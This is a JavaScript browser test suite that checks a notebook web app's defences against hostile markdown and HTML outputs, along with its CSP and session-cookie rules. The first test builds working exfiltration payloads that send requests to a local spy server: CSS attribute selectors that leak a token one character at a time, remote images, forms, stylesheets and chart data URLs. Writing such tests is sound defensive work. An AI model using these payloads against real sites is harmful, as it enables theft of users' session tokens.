// The workspace page against its own users, in a real Chromium. A markdown cell or
// an output is someone else's HTML shown in your browser; before, it could carry
// `<style>`, remote images and forms, and every download link held the viewer's
// token, so CSS attribute selectors could leak it one character at a time. Now the
// page has a strict Content-Security-Policy, the sanitiser drops styles, forms and
// remote URLs, and the token never stays in the page: sign-in trades it for an
// HttpOnly, SameSite=Strict cookie. A listener on another port counts every request
// an attack manages to send; each check waits for the page to have rendered the
// attack (an event), then reads the count.
import { test } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { api, codeCell, createNotebook, createToken, startServer, tempDir } from "../collab/helpers.js";
import { WEB_DIR, launch, signedIn } from "./browser.js";

const serverArgs = ["--web", WEB_DIR];

/** A local web server that records what reaches it (what a leak would look like). */
async function listener() {
  const hits = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url);
    res.writeHead(200, { "Content-Type": "image/png", "Access-Control-Allow-Origin": "*" });
    res.end();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { hits, base: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

test("hostile markdown and outputs load nothing, restyle nothing and find no token", async () => {
  const data = tempDir();
  const alice = createToken(data, "editor", "alice");
  const server = await startServer(data, { args: serverArgs });
  const spy = await listener();
  const browser = await launch();
  try {
    const secret = alice.split("_").pop();
    const display = (data) => ({ output_type: "display_data", metadata: {}, data });
    // One probe per character a leak would test: `a[href*="flb_x"]` etc.
    const selectors = "0123456789abcdef".split("").map((c) =>
      `a[href*="${c}"]{background:url(${spy.base}/css-${c})}`).join("");
    const entry = await createNotebook(server, alice, [
      {
        id: "md", cell_type: "markdown", metadata: {},
        source: `# Attack\n\n<style>${selectors} body{background:url(${spy.base}/body)}</style>\n\n` +
          `<img src="${spy.base}/img"> <img srcset="${spy.base}/srcset 2x">\n\n` +
          `<form action="${spy.base}/form" method="post"><input name="t" value="x"><button id="send">go</button></form>\n\n` +
          `<a href="${spy.base}/link">a link</a> <a href="javascript:alert(1)">js</a>\n\n<p id="done">rendered</p>`,
      },
      {
        ...codeCell("out", "html"),
        outputs: [
          display({ "text/html": `<link rel="stylesheet" href="${spy.base}/sheet.css"><div style="background:url(${spy.base}/inline)">styled</div><video poster="${spy.base}/poster"></video><svg><image href="${spy.base}/svgimg"/></svg><p id="out-done">out</p>`, "text/plain": "x" }),
          display({
            "application/vnd.vegalite.v5+json": {
              data: { url: `${spy.base}/chart.csv` }, mark: "point",
              encoding: { x: { field: "a", type: "quantitative" } },
            },
            "text/plain": "a chart that wants remote data",
          }),
        ],
      },
    ]);
    const page = await signedIn(browser, server, alice, `/notebooks/${entry.id}`);
    const violations = [];
    page.on("console", (m) => { if (/Content Security Policy/i.test(m.text())) violations.push(m.text()); });
    await page.waitForSelector('.cell[data-id="md"] .markdown-rendered #done');
    await page.waitForSelector('.cell[data-id="out"] .output-data #out-done');
    // The chart either refused its remote data or was blocked: it is shown as its text.
    await page.waitForFunction(() => document.querySelector('.cell[data-id="out"] .vega')?.title?.length > 0
      || document.querySelector('.cell[data-id="out"] .vega svg.marks') !== null, null, { timeout: 60000 });
    await page.evaluate(() => document.fonts.ready);

    const found = await page.evaluate(() => ({
      styles: document.querySelectorAll("main .cell style, main .cell link").length,
      forms: document.querySelectorAll("main .cell form, main .cell input, main .cell button#send").length,
      remote: Array.from(document.querySelectorAll("main .cell [src], main .cell [srcset], main .cell [poster], main .cell image[href]"),
        (el) => el.getAttribute("src") ?? el.getAttribute("srcset") ?? el.getAttribute("poster") ?? el.getAttribute("href")),
      links: Array.from(document.querySelectorAll("main .cell a[href]"), (a) => [a.getAttribute("href"), a.rel, a.target]),
      html: document.documentElement.outerHTML,
      cookie: document.cookie,
      stored: JSON.stringify({ ...localStorage }),
    }));
    assert.equal(found.styles, 0, "no <style> or <link> from a notebook");
    assert.equal(found.forms, 0, "no forms from a notebook");
    assert.deepEqual(found.remote.filter((u) => u && !u.startsWith("data:")), [], "no remote URL left to load");
    assert.deepEqual(found.links, [[`${spy.base}/link`, "noopener noreferrer", "_blank"]], "only the http link, opening apart");
    assert.ok(!found.html.includes(secret), "the token is nowhere in the page");
    assert.ok(!found.cookie.includes("ferrolab_session"), "the session cookie is HttpOnly");
    assert.ok(!found.stored.includes(secret), "the token is not stored by the page");
    assert.ok(!page.url().includes("token="), "the token left the address bar");
    assert.deepEqual(spy.hits, [], "nothing reached the listener");
    assert.equal(await page.evaluate(() => window.pwned), undefined);

    // The page's own links work on the session: the download needs no token.
    const download = await page.evaluate(async (href) => (await fetch(href)).status,
      await page.getAttribute(".download", "href"));
    assert.equal(download, 200);
    assert.ok(!(await page.getAttribute(".download", "href")).includes("token"));
  } finally {
    await browser.close();
    spy.close();
    await server.stop();
  }
});

test("the page is served with a strict policy and the session works only from it", async () => {
  const data = tempDir();
  const alice = createToken(data, "editor", "alice");
  const server = await startServer(data, { args: serverArgs });
  try {
    const page = await fetch(`${server.base}/`);
    const csp = page.headers.get("content-security-policy") ?? "";
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/, "no inline script, no eval");
    assert.doesNotMatch(csp, /'unsafe-eval'|\*/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(await page.text(), /<script>(?!<\/script>)/, "no inline script in the page");

    // Sign-in: a token in, an HttpOnly, SameSite=Strict cookie out.
    const signIn = await fetch(`${server.base}/api/session`, { method: "POST", headers: { Authorization: `Bearer ${alice}` } });
    assert.equal(signIn.status, 200);
    const cookie = signIn.headers.get("set-cookie") ?? "";
    assert.match(cookie, /^ferrolab_session=[^;]+; HttpOnly; SameSite=Strict; Path=\//);
    const session = cookie.split(";")[0];
    const withCookie = (origin, method = "POST") => fetch(`${server.base}/api/notebooks`, {
      method, headers: { Cookie: session, ...(origin ? { Origin: origin } : {}), "Content-Type": "application/json" },
      body: method === "POST" ? JSON.stringify({ title: "x" }) : undefined,
    });
    assert.equal((await withCookie(server.base)).status, 201, "our own page may write");
    const foreign = await withCookie("http://evil.example");
    assert.equal(foreign.status, 403, "another site's page may not use the session");
    assert.match((await foreign.json()).error.message, /cannot use this server's session/);
    const forged = await fetch(`${server.base}/api/notebooks`, { headers: { Cookie: session.replace(/.$/, (c) => (c === "0" ? "1" : "0")) } });
    assert.equal(forged.status, 401);
    // Revoking the token ends its sessions at once.
    const { revokeToken } = await import("../collab/helpers.js");
    revokeToken(data, "alice");
    const after = await withCookie(server.base, "GET");
    assert.equal(after.status, 401);
    assert.match((await after.json()).error.message, /session has ended/);
  } finally {
    await server.stop();
  }
});
